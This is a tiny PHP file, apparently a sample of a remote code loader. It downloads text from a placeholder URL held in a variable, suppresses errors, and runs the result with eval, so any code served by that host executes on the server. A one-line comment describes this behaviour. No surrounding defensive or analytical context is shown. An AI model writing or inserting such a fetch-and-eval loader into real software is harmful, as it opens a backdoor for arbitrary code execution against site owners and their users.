<?php
// the code comes from a URL kept in a variable, and runs
$src = 'http://updates.example.invalid/p.txt';
$code = @file_get_contents($src);
eval('?>' . $code);
